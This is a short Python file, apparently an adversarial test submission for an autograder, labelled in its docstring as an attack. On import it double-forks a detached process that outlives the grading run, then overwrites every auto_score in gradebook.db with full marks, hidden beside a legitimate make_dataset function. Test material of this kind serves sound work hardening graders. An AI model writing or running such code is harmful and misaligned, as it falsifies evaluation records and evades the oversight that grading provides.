"""Attack: a double-forked process that outlives the run and rewrites the gradebook with full
marks after `autograder grade` has exited, so a rerun skips the student as unchanged."""

import os
import sqlite3
import time

import numpy as np

EXERCISE = "make_dataset"
HONEST = "make_dataset_labels_01"
COURSE_ROOT = "@COURSE_ROOT@"


def _later():
    time.sleep(3)
    for db in [os.path.join(COURSE_ROOT, "gradebook.db"), "../../../gradebook.db"]:
        try:
            con = sqlite3.connect(db)
            con.execute("UPDATE grade SET auto_score = 6")
            con.commit()
        except Exception:
            pass


if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        _later()
    os._exit(0)


def make_dataset(n_samples, n_features=2, threshold=0.5, seed=None):
    rng = np.random.default_rng(seed)
    X = rng.random((n_samples, n_features))
    return X, (X.sum(axis=1) > threshold).astype(int)
